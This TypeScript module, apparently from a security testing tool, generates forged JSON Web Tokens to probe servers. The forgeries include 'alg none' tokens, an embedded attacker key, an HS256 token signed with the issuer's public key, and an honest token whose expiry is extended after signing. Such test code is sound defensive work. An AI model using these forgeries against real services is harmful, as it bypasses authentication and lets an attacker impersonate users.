import { createHmac, createPublicKey, generateKeyPairSync, sign, type JsonWebKey } from 'node:crypto';
import { NotApplicable } from '../attack.ts';

type Claims = Readonly<Record<string, unknown>>;

const encoded = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const decoded = (part: string | undefined) =>
  JSON.parse(Buffer.from(part ?? '', 'base64url').toString() || '{}') as Claims;

/** Claims that the server would accept if the signature were valid; invented if no honest token exists. */
function claimsOf(honest: string | null): Claims {
  if (honest !== null) return decoded(honest.split('.')[1]);
  const now = Math.floor(Date.now() / 1000);
  return { iss: 'https://example.auth0.com/', sub: 'auth0|1', aud: 'api', iat: now, exp: now + 3600 };
}

/** The key that signed the honest token, as its issuer publishes it. */
async function publicKeyOf(honest: string | null): Promise<JsonWebKey & { readonly kid: string }> {
  if (honest === null) throw new NotApplicable('needs a test account: the issuer is not known without its token');
  const { kid } = decoded(honest.split('.')[0]);
  const answer = await fetch(new URL('.well-known/jwks.json', String(claimsOf(honest)['iss'])));
  const { keys } = (await answer.json()) as { readonly keys: readonly (JsonWebKey & { readonly kid: string })[] };
  const key = keys.find((each) => each.kid === kid);
  if (!key) throw new Error('The issuer does not publish the key of its token.');
  return key;
}

function signedByMe(header: Claims, claims: Claims, withKey = false): string {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const jwk = withKey ? { jwk: publicKey.export({ format: 'jwk' }) } : {};
  const text = `${encoded({ alg: 'RS256', typ: 'JWT', ...header, ...jwk })}.${encoded(claims)}`;
  return `${text}.${sign('sha256', Buffer.from(text), privateKey).toString('base64url')}`;
}

/** Tokens that an attacker without a key of the issuer can create, based on an honest one if it exists. */
export const FORGED_TOKENS: Readonly<Record<string, (honest: string | null) => Promise<string>>> = {
  'no token at all': async () => '',
  'not a JWT': async () => 'opaque',
  'alg none': async (honest) => `${encoded({ alg: 'none', typ: 'JWT' })}.${encoded(claimsOf(honest))}.`,
  'alg none with a signature': async (honest) =>
    `${encoded({ alg: 'none', typ: 'JWT' })}.${encoded(claimsOf(honest))}.AAAA`,
  'a key it brings along': async (honest) => signedByMe({}, claimsOf(honest), true),
  "another party's key": async (honest) => {
    const { kid } = await publicKeyOf(honest);
    return signedByMe({ kid }, claimsOf(honest));
  },
  'HS256 with the public key': async (honest) => {
    const key = await publicKeyOf(honest);
    const pem = createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
    const text = `${encoded({ alg: 'HS256', typ: 'JWT', kid: key.kid })}.${encoded(claimsOf(honest))}`;
    return `${text}.${createHmac('sha256', pem).update(text).digest('base64url')}`;
  },
  'claims changed after signing': async (honest) => {
    if (honest === null) throw new NotApplicable('needs a test account with an honest token');
    const [header, , signature] = honest.split('.');
    return `${header}.${encoded({ ...claimsOf(honest), exp: Number(claimsOf(honest)['exp']) + 60 })}.${signature}`;
  },
};
